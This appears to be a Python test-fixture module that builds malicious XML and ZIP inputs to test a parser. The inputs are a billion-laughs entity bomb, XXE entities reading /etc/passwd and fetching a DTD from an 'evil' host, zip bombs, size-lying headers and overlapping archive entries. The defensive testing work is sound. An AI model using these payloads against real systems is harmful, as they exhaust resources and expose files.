"""Archives and XML made to exhaust or to mislead the reader."""

import io
import struct
import zipfile
import zlib

from hostile.workshop import Workshop

LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)) + "]>"
)
"""Each entity ten times the one before it: 200 GB of laughter."""
FILE = '<!DOCTYPE x [<!ENTITY a11 SYSTEM "file:///etc/passwd">]>'
NETWORK = '<!DOCTYPE x SYSTEM "http://192.0.2.1/evil.dtd" [<!ENTITY a11 SYSTEM "http://192.0.2.1/x">]>'
_PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p; <!ENTITY a11 "x">]>'
ENTITIES = {"laughs": LAUGHS, "a file": FILE, "the network": NETWORK, "a parameter": _PARAMETER}


def with_entity(good: Workshop, part: str, doctype: str, before: str) -> None:
    """Declare entities in a part, and use the last in front of this text."""
    good.rewrite(part, lambda text: text.replace("?>", f"?>{doctype}", 1).replace(before, "&a11;" + before, 1))


def bomb_of_spaces(good: Workshop, part: str, mebibytes: int) -> bytes:
    """A part that ends in spaces, which take a thousandth of their size."""
    head = good.parts.pop(part)
    return with_entry(good.pack(), part, _spaces(head, mebibytes), 0, len(head) + mebibytes * 2**20)


def _spaces(head: bytes, mebibytes: int) -> bytes:
    """Deflated text that ends in spaces: one block of them, again and again."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = squeeze.compress(head) + squeeze.flush(zlib.Z_FULL_FLUSH)
    block = squeeze.compress(b" " * 2**20) + squeeze.flush(zlib.Z_FULL_FLUSH)
    return start + block * mebibytes + squeeze.flush()


def with_entry(archive: bytes, part: str, packed: bytes, checksum: int, size: int) -> bytes:
    """The archive with one more entry, of which the headers say what they are told to."""
    end = archive.rfind(b"PK\5\6")
    count, length, start = struct.unpack_from("<HII", archive, end + 10)
    name, sizes = part.encode(), (checksum, len(packed), size)
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 33, *sizes, len(name), 0) + name + packed
    central = struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 33, *sizes, len(name), 0, 0, 0, 0, 0, start) + name
    listed = archive[start : start + length] + central
    tail = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count + 1, count + 1, len(listed), start + len(local), 0)
    return archive[:start] + local + listed + tail


def lying_bomb(good: Workshop, part: str) -> bytes:
    """A part of 2 GiB that says it has 1,000 bytes."""
    head = good.parts.pop(part)
    return with_entry(good.pack(), part, _spaces(head, 2048), zlib.crc32(head), 1000)


def overlapping(good: Workshop) -> bytes:
    """Ten thousand entries over the same few bytes."""
    archive = good.pack()
    end = archive.rfind(b"PK\5\6")
    start = struct.unpack_from("<I", archive, end + 16)[0]
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        small = [
            each for each in opened.infolist() if each.file_size < 400_000
        ]  # together below what is refused for size
        info = max(small, key=lambda each: each.compress_size)
    sizes = (info.CRC, info.compress_size, info.file_size)
    extra = b"".join(
        struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 33, *sizes, 6, 0, 0, 0, 0, 0, info.header_offset)
        + b"x%05d" % n
        for n in range(10_000)
    )
    length, count = end - start + len(extra), len(opened.infolist()) + 10_000
    return archive[:end] + extra + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count, count, length, start, 0)


def twice(good: Workshop, part: str, content: bytes) -> bytes:
    return with_entry(good.pack(), part, _deflated(content), zlib.crc32(content), len(content))


def _deflated(content: bytes) -> bytes:
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    return squeeze.compress(content) + squeeze.flush()


def large_declared(good: Workshop) -> bytes:
    """Three small parts that say they have 2 GiB each."""
    archive = good.pack()
    for at in range(3):
        archive = with_entry(archive, f"xl/media/image{at}.png", _deflated(b"x"), 0, 2**31)
    return archive
